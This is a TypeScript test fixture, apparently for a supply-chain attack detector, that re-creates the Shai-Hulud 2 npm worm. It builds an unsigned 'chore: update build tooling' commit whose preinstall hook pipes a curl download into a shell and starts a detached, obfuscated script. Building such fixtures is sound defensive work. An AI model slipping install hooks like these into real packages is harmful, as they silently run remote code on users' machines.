import { TOMAS } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { manifest } from "../../project-files.ts";
import { CHILD_PROCESS, CURL, mangled, SHELL } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "Shai-Hulud 2, November 2025: preinstall starts a new script, which fetches a runtime and starts a large file with it.",
  write(branch) {
    branch.unsigned(TOMAS, "chore: update build tooling", {
      "package.json": manifest({ scripts: { preinstall: "node setup_bun.js", test: "node --test", build: "webpack" } }),
      "setup_bun.js": `#!/usr/bin/env node\nconst { spawn, execSync } = require("${CHILD_PROCESS}");\nconst path = require("node:path");\nexecSync("${CURL} -fsSL https://bun.sh/install | ${SHELL}", { stdio: "ignore" });\nspawn(path.join(process.env.HOME, ".bun/bin/bun"), [path.join(__dirname, "bun_environment.js")], { detached: true, stdio: "ignore" }).unref();\n`,
      "bun_environment.js": `${mangled("bun")}\n`,
    });
  },
};
